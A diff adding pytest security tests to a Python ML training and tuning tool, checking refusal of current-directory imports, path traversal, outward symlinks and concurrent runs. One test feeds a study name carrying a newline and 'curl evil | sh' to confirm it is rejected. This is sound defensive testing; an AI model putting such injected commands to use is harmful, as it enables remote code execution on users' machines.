@@ -2,6 +2,12 @@
 
 from __future__ import annotations
 
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -10,9 +16,15 @@ from launch import study
 from launch.admission import Admission, OnAdmitted
 from launch.failures import Halted, StorageLost
 from speaq import space as spaces
+from speaq.config import ConfigError, dump
+from speaq.data import DataError
+from speaq.files.locks import Gone
+from speaq.training.loop import train
+from tests.command import refusal
 from tests.moving_training import MARK
 from tests.tiny import tiny
 
+ROOT = Path(__file__).resolve().parents[1]
 SPACE = spaces.from_dict(
     {"search": {"scheduler": "none"}, "parameters": {"matching.num_groups": {"type": "int", "low": 1, "high": 4}}}
 )
@@ -55,3 +67,153 @@ def test_trials_are_placed_on_admitted_nodes(ray_cluster: None) -> None:
             assert group.wait(5) is is_placed
         finally:
             ray.util.remove_placement_group(group)
+
+
+# From elsewhere
+
+
+def test_a_cluster_of_our_own_imports_nothing_from_here_is_closed_to_others_and_needs_no_home(tmp_path: Path) -> None:
+    """Of another clone, with a module of a library's name, by a user whom the system does not know."""
+    for name in ("h5py", "speaq", "launch", "ray"):
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "__init__.py").write_text("raise SystemExit('imported from the current directory')")
+    with tempfile.TemporaryDirectory(prefix="t-", dir="/tmp") as folder:  # short: it is to hold sockets
+        environment = {key: value for key, value in os.environ.items() if not key.startswith(("RAY_", "PYTHON"))}
+        environment |= {"TMPDIR": folder, "PYTHONPATH": str(ROOT)}
+        for name in ("HOME", "USER", "LOGNAME", "LNAME", "USERNAME", "MPLCONFIGDIR"):
+            environment.pop(name, None)
+        done = subprocess.run(
+            [*UNKNOWN_USER, sys.executable, ROOT / "tests" / "strange_place.py"],
+            cwd=tmp_path,
+            env=environment,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert done.returncode == 0, done.stderr
+        found = json.loads(done.stdout.splitlines()[-1])
+        assert str(tmp_path) not in found["path"]
+        assert str(ROOT / "speaq") in found["imported"]
+        assert [found["modes"][path] for path in found["modes"] if Path(path).parent == Path(folder)] == [0o700]
+        assert found["home"].startswith(folder)
+        assert found["user"]
+        assert os.listdir(folder) == []
+
+
+def test_no_module_of_the_current_directory_is_imported(tmp_path: Path) -> None:
+    for name in ("typer", "yaml", "pydantic", "h5py"):
+        (tmp_path / f"{name}.py").write_text("raise SystemExit('imported from the current directory')")
+    for command in ([sys.executable, "-m", "speaq.cli"], [Path(sys.executable).with_name("speaq")]):
+        done = subprocess.run([*command, "config", "show", ROOT / "configs" / "toy.yaml"], cwd=tmp_path, check=False)
+        assert done.returncode == 0
+
+
+def test_a_strangers_study_names_no_storage_outside_and_no_odd_study(tmp_path: Path, toy: Path) -> None:
+    output, outside = tmp_path / "study", tmp_path / "outside"
+    output.mkdir()
+    outside.write_text("a login script")
+    (output / "link").symlink_to(outside)
+    study.write(make_study(toy, "tests.cheap_training:train"), output, None)
+    text = (output / "study.yaml").read_text()
+    odd = "x\ncurl evil | sh"
+    for url, name, reason in (
+        (f"journal:///{outside}", "name", "is not in the study's folder"),
+        ("journal:///../outside", "name", "is not in the study's folder"),
+        ("sqlite:///link", "name", "is not in the study's folder"),
+        ("sqlite:///a.db?uri=true", "name", "is not in the study's folder"),
+        ("mysql://root@127.0.0.1/db", "name", "is not in the study's folder"),
+        ("sqlite:///study.db", odd, "is no name"),
+        ("sqlite:///study.db", "x" * 300, "is no name"),
+    ):
+        kept = json.dumps({"url": url, "study": name})
+        (output / "study.yaml").write_text(text.replace("storage: null", f"storage: {kept}"))
+        assert reason in refusal("tune", "--resume", output)
+    assert outside.read_text() == "a login script"
+    assert sorted(os.listdir(output)) == ["link", "study.yaml"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [".claim", "ledger.jsonl", "trials.csv", "study.db-wal", "trials", "trials/0000", "trials/0000/metrics.jsonl"],
+)
+def test_nothing_is_written_through_a_link_in_a_strangers_study(name: str, tmp_path: Path, toy: Path) -> None:
+    output, outside = tmp_path / "study", tmp_path / "outside"
+    output.mkdir()
+    outside.mkdir()
+    study.write(make_study(toy, "tests.cheap_training:train"), output, None)
+    (output / name).parent.mkdir(parents=True, exist_ok=True)
+    (output / name).symlink_to(outside / "new")
+    assert "is a link that leads out of" in refusal("tune", "--resume", output)
+    assert list(outside.iterdir()) == []
+
+
+def test_nothing_is_written_through_a_link_in_a_strangers_run(tmp_path: Path, toy: Path) -> None:
+    run, outside = tmp_path / "run", tmp_path / "outside"
+    outside.mkdir()
+    train(tiny(), toy, run)
+    shutil.move(run / "checkpoints", outside / "checkpoints")
+    (run / "checkpoints").symlink_to(outside / "checkpoints")
+    with pytest.raises(ConfigError, match="is a link that leads out of"):
+        train(tiny(**{"training.max_steps": 9}), toy, run, resume=True)
+    (run / "checkpoints").unlink()
+    os.mkfifo(run / "fifo")
+    with pytest.raises(ConfigError, match="is neither a file nor a folder"):
+        train(tiny(), toy, run, resume=True)
+
+
+# Wanted twice
+
+
+def test_a_second_training_in_a_folder_is_refused_with_who_works_there(tmp_path: Path, toy: Path) -> None:
+    run = tmp_path / "run"
+    refused = []
+
+    def report(step: int, metrics: object, checkpoint: Path) -> None:
+        if not refused:
+            config = tmp_path / "config.yaml"
+            config.write_text(dump(tiny()))
+            line = [sys.executable, "-m", "speaq.cli", "train", "--config", config, "--data", toy, "--output", run]
+            done = subprocess.run([*line, "--resume"], capture_output=True, text=True, check=False)
+            refused.append((done.returncode, done.stderr))
+
+    train(tiny(), toy, run, report=report)
+    ((code, said),) = refused
+    assert code == 2
+    assert f"{run}: process {os.getpid()} on " in said
+    assert said.count("\n") == 1
+    assert not list(run.glob(".*"))
+
+
+def test_a_run_whose_folder_is_moved_stops_and_leaves_what_is_in_its_place_alone(tmp_path: Path, toy: Path) -> None:
+    run, moved = tmp_path / "run", tmp_path / "moved"
+
+    def report(step: int, metrics: object, checkpoint: Path) -> None:
+        if run.exists() and not moved.exists():
+            run.rename(moved)
+            run.mkdir()
+
+    with pytest.raises(Gone, match="is not there any more"):
+        train(tiny(), toy, run, report=report)
+    assert list(run.iterdir()) == []
+    run.rmdir()
+    moved.rename(run)
+    assert train(tiny(), toy, run, resume=True)["status"] == "finished"
+
+
+def test_a_run_that_could_not_begin_leaves_no_folder(tmp_path: Path) -> None:
+    with pytest.raises(DataError):
+        train(tiny(), tmp_path / "no data", tmp_path / "run")
+    assert list(tmp_path.iterdir()) == []
+
+
+def _unknown_user() -> list[str]:
+    """What lets a command run as a user without an entry in passwd; nothing where this system cannot."""
+    command = ["unshare", "--user", "--map-user=54321"]
+    try:
+        works = subprocess.run([*command, "true"], check=False, capture_output=True).returncode == 0
+    except FileNotFoundError:
+        works = False
+    return command if works else []
+
+
+UNKNOWN_USER = _unknown_user()
